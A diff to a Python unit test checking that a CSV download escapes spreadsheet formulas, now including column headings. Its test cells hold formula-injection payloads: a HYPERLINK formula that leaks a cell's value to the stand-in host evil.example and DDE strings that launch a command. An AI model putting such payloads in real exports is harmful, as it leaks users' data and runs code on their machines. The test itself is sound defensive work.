@@ -62,11 +62,12 @@ def test_a_csv_download_never_hands_a_spreadsheet_a_formula_and_keeps_numbers_as
 
     cells = ['=HYPERLINK("https://evil.example/?leak="&B2,"source")', "@SUM(1+9)*cmd|' /C calc'!A0",
              "+cmd|' /C calc'!A0", "-2+3", "\tx", "\r=1+1", "\0=1+1", "-3", "+2.5%", "-1,200", "a note", ""]
-    frame = pd.DataFrame({"note": cells, "value": [-5, *range(1, 12)]})
+    frame = pd.DataFrame({"note": cells, "value": [-5, *range(1, 12)], "=HYPERLINK(\"x\")": 0})
     payload = re.search(r"base64,([^\"]+)\"", csv_download(frame, "x.csv")).group(1)
     written = base64.b64decode(payload).decode("utf-8")
     read = pd.read_csv(io.StringIO(written), keep_default_na=False, dtype=str)
     assert written.count("\r\n") == len(cells) + 1   # a row a line: the cell holding a carriage return is quoted
     assert read["note"].tolist() == ["'" + cell for cell in cells[:7]] + cells[7:]
     assert read["value"].tolist() == [str(n) for n in frame["value"]]   # numbers are not text: left alone
+    assert list(read.columns) == ["note", "value", "'=HYPERLINK(\"x\")"]   # a heading is a cell too
     assert frame["note"].tolist() == cells   # the table the page shows is not changed
